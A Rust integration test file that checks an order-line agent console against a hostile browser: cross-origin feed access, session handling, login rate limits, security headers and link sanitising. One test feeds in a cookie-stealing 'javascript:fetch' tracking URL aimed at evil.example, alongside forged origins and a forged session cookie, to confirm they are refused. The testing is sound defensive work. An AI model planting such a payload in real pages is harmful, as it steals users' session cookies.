//! The console and its feed against a hostile browser: a page on another origin (another port
//! of the same host) cannot read the feed through the agent's cookie; sessions are random per
//! login, kept server-side and ended by logout; login and logout are same-origin posts; wrong
//! tokens are rate-limited; every console response forbids framing, sniffing and inline
//! script; only http(s) tracking links reach the page.

use std::time::Duration;

use crate::common::line::line;
use crate::common::{Backend, SHOP};
use chrono::Utc;
use orderline::config::{Secret, VerifyPolicy};
use orderline::shopify::payload::ShopifyChange;
use orderline::store::Ts;
use reqwest::StatusCode;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tokio_tungstenite::tungstenite::{Error as WsError, Message};

const AGENT: &str = "agent-secret";

fn client() -> reqwest::Client {
    reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap()
}

/// Logs in as the console's form does (a POST from the console's origin); returns the
/// `name=value` of the session cookie.
async fn log_in(base: &str) -> String {
    let ok = client().post(format!("{base}/agent/login")).header("Origin", base).form(&[("token", AGENT)]);
    let ok = ok.send().await.unwrap();
    assert_eq!(ok.status(), StatusCode::SEE_OTHER);
    let cookie = ok.headers()["set-cookie"].to_str().unwrap();
    cookie.split(';').next().unwrap().to_string()
}

/// Opens the feed with the given headers; the HTTP status when refused.
async fn feed_status(base: &str, headers: &[(&str, &str)]) -> u16 {
    let mut request = format!("{}/agent/feed", base.replace("http://", "ws://")).into_client_request().unwrap();
    for (name, value) in headers {
        let name = reqwest::header::HeaderName::from_bytes(name.as_bytes()).unwrap();
        request.headers_mut().insert(name, value.parse().unwrap());
    }
    match tokio_tungstenite::connect_async(request).await {
        Ok((mut ws, response)) => {
            use futures::StreamExt;
            let first = tokio::time::timeout(Duration::from_secs(5), ws.next()).await.unwrap().unwrap().unwrap();
            assert!(matches!(&first, Message::Text(t) if t.contains("snapshot")), "{first:?}");
            response.status().as_u16()
        }
        Err(WsError::Http(response)) => response.status().as_u16(),
        Err(e) => panic!("feed: {e}"),
    }
}

/// The same host on another port: what a hostile page next to the console would be.
fn other_port(base: &str) -> String {
    let (host, port) = base.rsplit_once(':').unwrap();
    format!("{host}:{}", port.parse::<u16>().unwrap().wrapping_add(1))
}

async fn a_page_on_another_origin_cannot_open_the_feed_with_the_agents_cookie(backend: Backend) {
    let line = line(backend, |s| s.agents.agent_token = Some(Secret::new(AGENT))).await;
    let base = line.app.url.clone();
    let session = log_in(&base).await;
    let bearer = format!("Bearer {AGENT}");
    assert_eq!(feed_status(&base, &[("Cookie", &session), ("Origin", &other_port(&base))]).await, 403);
    assert_eq!(feed_status(&base, &[("Cookie", &session), ("Origin", "null")]).await, 403);
    assert_eq!(feed_status(&base, &[("Cookie", &session)]).await, 403, "a cookie session must say where it is from");
    assert_eq!(feed_status(&base, &[("Cookie", &session), ("Origin", &base)]).await, 101, "the console itself");
    assert_eq!(feed_status(&base, &[("Authorization", &bearer)]).await, 101, "a tool without Origin");
    assert_eq!(feed_status(&base, &[("Authorization", &bearer), ("Origin", &other_port(&base))]).await, 403);
    line.app.stop().await;
}

async fn every_login_has_its_own_session_and_logout_ends_it(backend: Backend) {
    let line = line(backend, |s| s.agents.agent_token = Some(Secret::new(AGENT))).await;
    let base = line.app.url.clone();
    let (first, second) = (log_in(&base).await, log_in(&base).await);
    assert_ne!(first, second, "a random token per login");
    assert!(!first.contains(AGENT));
    let api = |cookie: String| {
        let base = base.clone();
        async move { client().get(format!("{base}/api/calls/CAnope")).header("Cookie", cookie).send().await.unwrap() }
    };
    assert_eq!(api(first.clone()).await.status(), 404, "a live session opens the API");
    let logout =
        client().post(format!("{base}/agent/logout")).header("Origin", &base).header("Cookie", &first).send().await;
    assert_eq!(logout.unwrap().status(), StatusCode::SEE_OTHER);
    assert_eq!(api(first.clone()).await.status(), 401, "the cookie is worthless after logout");
    let page = client().get(format!("{base}/agent")).header("Cookie", &first).send().await.unwrap();
    assert!(page.text().await.unwrap().contains("session has ended"));
    assert_eq!(api(second).await.status(), 404, "another agent's session goes on");
    let forged = "orderline_agent=0000000000000000000000000000000000000000000000000000000000000000";
    assert_eq!(api(forged.to_string()).await.status(), 401);
    line.app.stop().await;
}

async fn logout_closes_the_sessions_open_feed(backend: Backend) {
    use futures::StreamExt;
    let line = line(backend, |s| s.agents.agent_token = Some(Secret::new(AGENT))).await;
    let base = line.app.url.clone();
    let session = log_in(&base).await;
    let mut request = format!("{}/agent/feed", base.replace("http://", "ws://")).into_client_request().unwrap();
    request.headers_mut().insert("Cookie", session.parse().unwrap());
    request.headers_mut().insert("Origin", base.parse().unwrap());
    let (mut feed, _) = tokio_tungstenite::connect_async(request).await.unwrap();
    let logout =
        client().post(format!("{base}/agent/logout")).header("Origin", &base).header("Cookie", &session).send().await;
    assert_eq!(logout.unwrap().status(), StatusCode::SEE_OTHER);
    // The snapshot, then the close (the feed rechecks its session every 5 s).
    let closed = tokio::time::timeout(Duration::from_secs(10), async {
        while let Some(message) = feed.next().await {
            match message {
                Ok(Message::Close(_)) | Err(_) => return true,
                Ok(_) => {}
            }
        }
        true
    })
    .await;
    assert_eq!(closed, Ok(true), "the feed of an ended session is closed");
    line.app.stop().await;
}

async fn a_session_expires(backend: Backend) {
    let line = line(backend, |s| {
        s.agents.agent_token = Some(Secret::new(AGENT));
        s.agents.agent_session_ttl = Duration::from_secs(1);
    })
    .await;
    let base = line.app.url.clone();
    let session = log_in(&base).await;
    let api = || client().get(format!("{base}/api/calls/CAnope")).header("Cookie", &session).send();
    assert_eq!(api().await.unwrap().status(), 404);
    tokio::time::sleep(Duration::from_millis(1300)).await;
    assert_eq!(api().await.unwrap().status(), 401, "expired on the server, whatever the browser keeps");
    line.app.stop().await;
}

async fn login_and_logout_are_refused_unless_posted_from_the_console(backend: Backend) {
    let line = line(backend, |s| s.agents.agent_token = Some(Secret::new(AGENT))).await;
    let base = line.app.url.clone();
    let login = |origin: Option<String>| {
        let mut request = client().post(format!("{base}/agent/login")).form(&[("token", AGENT)]);
        if let Some(origin) = origin {
            request = request.header("Origin", origin);
        }
        request.send()
    };
    assert_eq!(login(None).await.unwrap().status(), 403);
    assert_eq!(login(Some(other_port(&base))).await.unwrap().status(), 403);
    assert_eq!(login(Some("https://evil.example".into())).await.unwrap().status(), 403);
    let session = log_in(&base).await;
    let logout = client()
        .post(format!("{base}/agent/logout"))
        .header("Origin", "https://evil.example")
        .header("Cookie", &session)
        .send()
        .await
        .unwrap();
    assert_eq!(logout.status(), 403, "a cross-site logout is refused");
    let api = client().get(format!("{base}/api/calls/CAnope")).header("Cookie", &session).send().await.unwrap();
    assert_eq!(api.status(), 404, "and the session is still live");
    line.app.stop().await;
}

async fn wrong_tokens_are_rate_limited(backend: Backend) {
    let line = line(backend, |s| s.agents.agent_token = Some(Secret::new(AGENT))).await;
    let base = line.app.url.clone();
    let attempt = |token: &'static str| {
        client().post(format!("{base}/agent/login")).header("Origin", &base).form(&[("token", token)]).send()
    };
    for _ in 0..10 {
        assert_eq!(attempt("guess").await.unwrap().status(), 401);
    }
    let refused = attempt("guess").await.unwrap();
    assert_eq!(refused.status(), 429);
    assert!(refused.headers().contains_key("retry-after"));
    assert_eq!(attempt(AGENT).await.unwrap().status(), 429, "paused for everyone, the right token too");
    line.app.stop().await;
}

async fn console_responses_forbid_framing_sniffing_and_inline_script(backend: Backend) {
    let line = line(backend, |s| s.agents.agent_token = Some(Secret::new(AGENT))).await;
    let base = line.app.url.clone();
    let session = log_in(&base).await;
    let get = |path: &str, cookie: Option<&str>| {
        let mut request = client().get(format!("{base}{path}"));
        if let Some(cookie) = cookie {
            request = request.header("Cookie", cookie);
        }
        request.send()
    };
    for (path, cookie) in [("/agent", None), ("/agent", Some(session.as_str())), ("/agent/console.js", None)] {
        let response = get(path, cookie).await.unwrap();
        let headers = response.headers().clone();
        let csp = headers["content-security-policy"].to_str().unwrap();
        assert!(csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"), "{path}: {csp}");
        assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
        assert_eq!(headers["x-frame-options"], "DENY", "{path}");
        assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(headers["referrer-policy"], "same-origin", "{path}");
        let body = response.text().await.unwrap();
        if path == "/agent" {
            // Every script is a file: no inline script, no inline handler, no inline style.
            for tag in body.split("<script").skip(1) {
                let (open, rest) = tag.split_once('>').unwrap();
                assert!(open.contains("src=") && rest.trim_start().starts_with("</script>"), "{path}: inline script");
            }
            assert!(!body.contains("<style") && !body.contains(" style=") && !body.contains(" onclick="), "{path}");
        }
    }
    let script = get("/agent/console.js", None).await.unwrap();
    assert!(script.headers()["content-type"].to_str().unwrap().starts_with("text/javascript"));
    assert!(script.text().await.unwrap().contains("/agent/feed"));
    line.app.stop().await;
}

async fn a_javascript_tracking_url_never_becomes_a_link(backend: Backend) {
    let line = line(backend, |s| {
        s.ivr.verify = VerifyPolicy::None;
        s.agents.agent_token = Some(Secret::new(AGENT));
    })
    .await;
    let latest = line.latest_order("Dana");
    assert!(latest.fulfillments.iter().any(|f| f.tracking_url.is_some()), "the demo's latest order is tracked");
    // In Shopify (the emulator) and in the store, as a webhook would have it.
    let order = line
        .sim
        .change_order(latest.id, |o| {
            for f in &mut o.fulfillments {
                f.tracking_url = Some("javascript:fetch('//evil.example/'+document.cookie)".into());
                f.updated_at += chrono::Duration::seconds(5);
            }
        })
        .unwrap();
    let change = ShopifyChange::Order(Box::new(order.clone()));
    line.app.store().apply_all(SHOP, &[change.into()], "US", Ts::from(Utc::now())).await.unwrap();
    let t = line.call("+15551234567", &["0"]).await;
    line.flush_calls().await;
    let card: serde_json::Value = client()
        .get(format!("{}/api/calls/{}", line.app.url, t.call_sid))
        .bearer_auth(AGENT)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(card["orders"][0]["name"], order.name);
    assert_eq!(card["orders"][0]["tracking_url"], serde_json::Value::Null, "{card}");
    assert!(card["orders"][0]["tracking_number"].is_string(), "the order is still tracked: {card}");
    line.app.stop().await;
}

on_both_backends!(
    a_page_on_another_origin_cannot_open_the_feed_with_the_agents_cookie,
    every_login_has_its_own_session_and_logout_ends_it,
    logout_closes_the_sessions_open_feed,
    a_session_expires,
    login_and_logout_are_refused_unless_posted_from_the_console,
    wrong_tokens_are_rate_limited,
    console_responses_forbid_framing_sniffing_and_inline_script,
    a_javascript_tracking_url_never_becomes_a_link,
);
